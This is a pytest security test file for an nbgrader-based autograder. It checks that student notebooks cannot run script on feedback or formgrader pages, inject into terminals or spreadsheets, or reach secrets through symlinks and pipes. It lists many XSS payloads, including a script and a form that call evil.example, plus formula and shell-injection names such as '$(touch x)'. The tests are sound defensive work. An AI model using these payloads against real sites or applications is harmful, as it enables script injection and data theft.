"""Text of a student's that would run: in feedback, in formgrader, in a terminal (57, 58, 60 of docs/attacks.md)."""

import html as entities
import json
import os
import re
import shutil
import socket
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from attacks import CANARY
from nbconvert.exporters import HTMLExporter
from nbgrader.api import Gradebook
from notebooks import COURSE, ROOT, TOPIC, cell, solved, written
from traitlets.config.loader import PyFileConfigLoader

from autograder import course as course_file
from autograder import releasing
from autograder.grade import grade
from autograder.nbgrader import api
from autograder.nbgrader.markdown import clean
from autograder.pool import Here
from autograder.report import terminal
from autograder.solve import code_cell

pytestmark = pytest.mark.filterwarnings("ignore")  # nbgrader's own, of which we are not the masters
HOSTILE = {
    "a script": "<script>attack()</script>",
    "a script of a file": "<script src='https://evil.example/x.js'></script>",
    "a handler": "<img src=x onerror=attack()>",
    "a handler in a picture": "<svg/onload=attack()><animate onbegin=attack() attributeName=x></svg>",
    "a link": "[click](javascript:attack())",
    "a link in disguise": "[click](jAvA\tscript:attack()) <a href='java&#10;script:attack()'>x</a> [a](&#106;avascript:attack())",
    "a link to a page of its own": "[click](data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==)",
    "a picture that is none": "![x](data:text/html;base64,PHNjcmlwdD4=) ![y](data:image/svg+xml;base64,PHN2Zz4=)",
    "a picture from elsewhere": "![x](https://evil.example/pixel.png) <img src='//evil.example/p.png'>",
    "a frame": "<iframe srcdoc='<script>attack()</script>'></iframe><object data='javascript:attack()'></object><embed src=x>",
    "a form": "<form action='https://evil.example'><input name=score class=score><button formaction='javascript:attack()'>",
    "a page's head": "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=javascript:attack()'><link rel=stylesheet href=x>",
    "a style": "<style>.score{display:none}</style><p style='background:url(https://evil.example)'>x</p>",
    "a name that formgrader looks for": "<p class='score comment full-credit' id='written-saturation'>20</p>",
    "an end of a tag": "--></script></style></textarea></title><img src=x onerror=attack()>",
    "mathematics": r"$\href{javascript:attack()}{x}$ $$\unicode{<img src=x onerror=attack()>}$$ $a<script>attack()</script>$",
    "an environment": r"\begin{align}<img src=x onerror=attack()>\end{align}",
    "a template": "{{ 7 * 7 }} {% raw %} {{ resources }} ${7*7} <%= 7*7 %> {{config}}",
    "an attachment's kind": "![a](attachment:a.png)",
    "code": '```html"><script>attack()</script>\n<script>attack()</script>\n```',
    "a colour of the terminal": "\x1b[2J\x1b]0;title\x07\x9b31m",
    "a heading": '# <script>attack()</script> "onmouseover=attack()',
}
NAMES = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "<img src=x onerror=attack()>",
    "{{7*7}}",
    "$(touch x)",
    "a\nb",
]


class Reader(HTMLParser):
    """All tags of a page that could do or load something."""

    def __init__(self, page):
        super().__init__()
        self.live = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        if tag in (
            "script",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "button",
            "base",
            "meta",
            "link",
            "svg",
            "style",
        ):
            self.live.append((tag, *map(str, attrs)))
        for name, value in attrs:
            url = re.sub(r"[\s\x00-\x1f]", "", entities.unescape(value or "")).lower()
            fetched = name in ("src", "srcset", "data", "background", "poster") and not url.startswith("data:image/png")
            if name.startswith("on") or url.startswith(("javascript:", "data:text", "vbscript:")) or fetched:
                self.live.append((tag, name, value))


def live(page):
    return Reader(page).live


# --- markdown ---


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_nothing_in_cleaned_html_lives(text):
    assert live(clean(text)) == []


HARMLESS = {
    "a table": "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>",
    "a picture of its own": '<img alt="a" src="data:image/png;base64,AAAA">',
    "a link": '<a href="https://example.org/a?b=c">x</a>',
    "mathematics": r"<p>$a &lt; b$ and \begin{align}a &amp;= b\end{align}</p>",
    "coloured code": '<div class="highlight"><pre><span class="kn">import</span></pre></div>',
    "what folds": "<details><summary>a</summary>b</details>",
    "a list": '<ol start="3"><li><em>a</em> <code>b</code> <del>c</del></li></ol>',
}


@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS)
def test_what_an_honest_answer_has_stays(text):
    assert clean(text) == text


# --- pages of nbgrader ---


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    root = tmp_path_factory.mktemp("pages") / "course"
    releasing.copy_course(COURSE, root)
    copy = course_file.load(root / course_file.FILE)
    releasing.release(copy, TOPIC.id)
    return copy


def hand_in(course, student, notebook, name="neurons.ipynb"):
    folder = course.root / "submitted" / student / TOPIC.id
    folder.mkdir(parents=True, exist_ok=True)
    if notebook is not None:
        written(notebook, folder, name)
    return folder


def graded(course, *students):
    return {report.student: report for report in grade(course, TOPIC.id, list(students), Here())}


def hostile():
    """A notebook that has every hostile text in every place where text can be."""
    notebook = solved(
        softmax="def softmax(z):\n    raise ValueError('<script>attack()</script><img src=x onerror=attack()>')"
    )
    everything = "\n\n".join(HOSTILE.values())
    cell(notebook, "written-saturation")["source"] = everything
    cell(notebook, "written-saturation")["attachments"] = {
        "a.png": {'image/png"><script>attack()</script><img src="': 'AAAA"><script>attack()</script>'}
    }
    for text in HOSTILE.values():
        notebook["cells"].append({"cell_type": "markdown", "id": "x", "metadata": {"name": text}, "source": text})
        notebook["cells"].append({"cell_type": "raw", "id": "x", "metadata": {"format": "text/html"}, "source": text})
        notebook["cells"].append(code_cell("x", f"# {text!r}\n%%html\n{text}"))
        notebook["cells"][-1]["metadata"] = {"magics_language": text, "tags": [text], "title": text}
        notebook["cells"][-1]["outputs"] = [
            {
                "output_type": "display_data",
                "data": {"text/html": text, "application/javascript": "attack()"},
                "metadata": {},
            }
        ]
    notebook["metadata"] |= {
        "title": HOSTILE["a script"],
        "widgets": {"x": HOSTILE["a script"]},
        "authors": [HOSTILE["a handler"]],
    }
    notebook["metadata"]["language_info"] = {"name": HOSTILE["a script"], "pygments_lexer": HOSTILE["a script"]}
    return notebook


@pytest.fixture(scope="module")
def attacked(course):
    hand_in(course, "mallory", hostile())
    hand_in(course, "ada", solved())
    reports = graded(course, "mallory", "ada")
    assert reports["ada"].score == 20
    return course


def ours(page):
    """What is alive on the page of the honest submission too: MathJax, and our own style."""
    return set(live(page))


def test_60_nothing_of_a_students_lives_on_a_feedback_page(attacked):
    with api.opened(attacked) as nbgrader:
        for student in ("mallory", "ada"):
            assert nbgrader.generate_feedback(TOPIC.id, student)["success"]
    pages = [
        (attacked.root / "feedback" / student / TOPIC.id / "neurons.html").read_text(encoding="utf-8")
        for student in ("mallory", "ada")
    ]
    assert ours(pages[0]) <= ours(pages[1])
    assert "attack()" in pages[0]  # it can be read
    assert "7 * 7" in pages[0]


def test_60_nothing_of_a_students_lives_in_formgrader(attacked):
    """The page that formgrader makes of a submission: its exporter, its template, the course's configuration."""
    import nbgrader.server_extensions.formgrader as formgrader

    config = PyFileConfigLoader(api.CONFIG, path=str(attacked.root)).load_config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [str(Path(formgrader.__file__).parent / "templates")]
    exporter = HTMLExporter(config=config)
    names = {"assignment_id": TOPIC.id, "notebook_id": "neurons", "submission_id": "1", "index": 0, "total": 1}
    names |= {"base_url": "", "student": "mallory", "last_name": None, "first_name": None, "notebook_path": "x"}
    found = []
    for student in ("mallory", "ada"):
        path = attacked.root / "autograded" / student / TOPIC.id / "neurons.ipynb"
        found.append(exporter.from_filename(str(path), resources=dict(names))[0])
    assert ours(found[0]) <= ours(found[1])
    assert "evil.example" in found[0]


def test_60_nothing_of_a_students_outputs_and_metadata_is_kept(attacked):
    path = attacked.root / "autograded" / "mallory" / TOPIC.id / "neurons.ipynb"
    notebook = nbformat.read(path, as_version=4)
    assert not [c for c in notebook.cells if c.cell_type == "raw"]
    outputs = [o for c in notebook.cells if c.cell_type == "code" for o in c.outputs]
    assert all("application/javascript" not in o.data for o in outputs)
    assert "attack" not in json.dumps(notebook.metadata)


def test_60_mathjax_is_loaded_with_its_safe_extension():
    assert ",Safe" in HTMLExporter().mathjax_url


# --- names ---


@pytest.mark.parametrize("name", NAMES)
def test_a_student_of_an_odd_name_is_graded_and_shown_on_one_line(course, name):
    hand_in(course, name, solved())
    report = graded(course, name)[name]
    assert report.score == 20
    line = terminal.line(report)
    assert len(line.splitlines()) == 1
    assert line.isprintable()
    shutil.rmtree(course.root / "submitted" / name)
    with Gradebook(f"sqlite:///{course.root}/gradebook.db") as gradebook:
        assert gradebook.find_submission(TOPIC.id, name).score == 20


@pytest.mark.parametrize(
    "name", [b"\xff.txt", b"a\nb", b"\x1b[2J", b"; touch x", b"-rf", b"x" * 250, b"=cmd|x.csv", b"\xed\xa0\x80"]
)
def test_a_file_of_any_name_is_no_hindrance(course, name):
    for student, notebook in (("with", solved()), ("without", None)):
        folder = hand_in(course, student, notebook)
        Path(os.fsdecode(os.fsencode(folder) + b"/" + name)).write_text("x")
    reports = graded(course, "with", "without")
    assert reports["with"].score == 20
    assert reports["without"].status == "unreadable"
    assert "expected neurons.ipynb, found" in reports["without"].reason
    assert reports["without"].reason.isprintable()
    for student in reports:
        shutil.rmtree(course.root / "submitted" / student)


def test_a_student_whose_name_is_no_text_costs_the_others_nothing(course):
    odd = os.fsdecode(b"m\xfcller")
    hand_in(course, odd, solved())
    hand_in(course, "next", solved())
    reports = list(grade(course, TOPIC.id, [odd, "next"], Here()))
    assert [r.status for r in reports] == ["grader_error", "graded"]
    assert "give it another one" in reports[0].reason
    json.dumps([r.to_dict() for r in reports], ensure_ascii=False).encode()
    shutil.rmtree(course.root / "submitted" / odd)


HALF = json.dumps(solved(relu="a = 'HALF'\ndef relu(z): return z")).replace("HALF", "\\ud800")
HALVES = {
    "in code": HALF,
    "in a text": HALF.replace("\\ud800", "").replace("why the", "why \\ud800 the", 1),
    "in a name": HALF.replace('"cell_type"', '"\\udfff": 1, "cell_type"', 1),
    "in its topic": json.dumps({"nbformat": 4, "cells": [], "metadata": {"autograder": {"topic": "T"}}}).replace(
        '"T"', '"\\ud800"'
    ),
    "in its format": '{"nbformat": "\\ud800", "cells": []}',
}


@pytest.mark.parametrize("text", HALVES.values(), ids=HALVES)
def test_half_a_character_costs_nothing_and_nobody(course, text):
    folder = hand_in(course, "half", None)
    (folder / "neurons.ipynb").write_text(text, encoding="utf-8")
    hand_in(course, "next", solved())
    reports = graded(course, "half", "next")
    assert reports["next"].score == 20
    assert reports["half"].status in ("graded", "unreadable")
    assert reports["half"].status == "graded" or "half" not in text


@pytest.mark.parametrize("name", ["report.json", "given.py", "neurons.ipynb", "neurons_files/x"])
def test_a_folder_where_a_file_of_ours_belongs_is_no_hindrance(course, name):
    student = "folder " + name.replace("/", " ")
    folder = hand_in(course, student, None if name == "neurons.ipynb" else solved())
    (folder / name).mkdir(parents=True)
    (folder / name / "x.txt").write_text("x")
    report = graded(course, student)[student]
    assert report.status == ("unreadable" if name == "neurons.ipynb" else "graded")
    left = course.root / "autograded" / student / TOPIC.id
    assert (left / "report.json").is_file()
    assert (left / "neurons.ipynb").is_file()


def test_a_file_that_has_become_a_folder_is_no_hindrance(course):
    folder = hand_in(course, "plans", solved())
    for make in (Path.touch, Path.mkdir, Path.touch):
        make(folder / "plan")
        if (folder / "plan").is_dir():
            (folder / "plan" / "a").touch()
        assert graded(course, "plans")["plans"].score == 20
        shutil.rmtree(folder / "plan", ignore_errors=True)
        (folder / "plan").unlink(missing_ok=True)


def test_74_what_is_handed_in_during_grading_gets_no_grade_of_what_was_there_before(course):
    class Late(Here):
        def run(self, answers, work):
            for name, report in super().run(answers, work):
                hand_in(course, "late", solved(softmax="softmax = None", relu="relu = None"))
                yield name, report

    hand_in(course, "late", solved(sigmoid="def sigmoid(z):\n    return z"))
    (report,) = grade(course, TOPIC.id, ["late"], Late())
    assert report.status == "grader_error"
    assert "handed in anew while it was graded" in report.reason
    assert graded(course, "late")["late"].exercise("softmax").score == 0


# --- links, pipes and sockets among the files ---


def strew(folder, secret):
    """All that is no plain file."""
    os.mkfifo(folder / "pipe")
    (folder / "link.txt").symlink_to(secret)
    (folder / "folder").symlink_to(secret.parent)
    (folder / "nowhere").symlink_to("/nowhere")
    (folder / "loop").symlink_to(folder / "loop")
    with socket.socket(socket.AF_UNIX) as one:
        here = os.getcwd()
        os.chdir(folder)  # a socket's path has 107 characters at most
        one.bind("socket")
        os.chdir(here)


@pytest.fixture
def secret(course):
    path = course.root / ".autograder" / "canary"
    path.write_text(CANARY)
    yield path
    path.unlink()


def test_57_what_is_no_file_among_the_files_is_not_followed(course, secret):
    folder = hand_in(course, "strewn", solved())
    strew(folder, secret)
    assert graded(course, "strewn")["strewn"].score == 20
    left = course.root / "autograded" / "strewn" / TOPIC.id
    assert sorted(path.name for path in left.rglob("*")) == ["given.py", "neurons.ipynb", "report.json"]
    with api.opened(course) as nbgrader:
        done = nbgrader.autograde(TOPIC.id, "strewn")
    assert done["success"], done
    assert not [path for path in left.rglob("*") if path.is_file() and CANARY in path.read_text()]
    with Gradebook(f"sqlite:///{course.root}/gradebook.db") as gradebook:
        assert gradebook.find_submission(TOPIC.id, "strewn").score == 20


@pytest.mark.parametrize("kind", ["a link to the seed", "a link to another's work", "a pipe", "a folder"])
def test_57_a_notebook_that_is_no_file_is_unreadable_and_is_not_read(course, secret, kind):
    student = "not a file " + kind.replace("'", "")
    folder = hand_in(course, student, None)
    path = folder / "neurons.ipynb"
    if kind == "a pipe":
        os.mkfifo(path)
    elif kind == "a folder":
        path.mkdir()
    else:
        path.symlink_to(secret if "seed" in kind else hand_in(course, "rich", solved()) / "neurons.ipynb")
    report = graded(course, student)[student]
    assert (report.status, report.score) == ("unreadable", 0)
    assert CANARY not in report.to_json()


def test_57_collecting_follows_no_link_and_stops_at_no_pipe(course, secret, tmp_path):
    inbound = tmp_path / course.file.course / "inbound"
    stamp = "2026-11-21 10:00:00 UTC"
    for student in ("aaa", "mmm", "zzz"):
        folder = inbound / f"{student}+{TOPIC.id}+{stamp}"
        folder.mkdir(parents=True)
        written(solved(), folder)
        (folder / "timestamp.txt").write_text(stamp)
        (folder / "plan").mkdir()
        (folder / "plan" / "a.txt").write_text("plan")
    bad = inbound / f"mmm+{TOPIC.id}+{stamp}"
    strew(bad, secret)
    (bad / "neurons.ipynb").unlink()
    (bad / "neurons.ipynb").symlink_to(inbound / f"zzz+{TOPIC.id}+{stamp}" / "neurons.ipynb")
    (bad / "large").write_bytes(b"")
    os.truncate(bad / "large", 1 << 31)
    (inbound / f"linked+{TOPIC.id}+{stamp}").symlink_to(inbound / f"zzz+{TOPIC.id}+{stamp}")
    with api.opened(course) as nbgrader:
        nbgrader.config.Exchange.root = str(tmp_path)
        done = nbgrader.collect(TOPIC.id, update=True)
    assert done["success"], done
    for student in ("aaa", "zzz"):
        names = sorted(p.name for p in (course.root / "submitted" / student / TOPIC.id).rglob("*"))
        assert names == ["a.txt", "neurons.ipynb", "plan", "timestamp.txt"]
    got = course.root / "submitted" / "mmm" / TOPIC.id
    assert sorted(p.name for p in got.rglob("*")) == ["a.txt", "plan", "timestamp.txt"]
    assert list((course.root / "submitted" / "linked" / TOPIC.id).iterdir()) == []
    assert course.root != ROOT
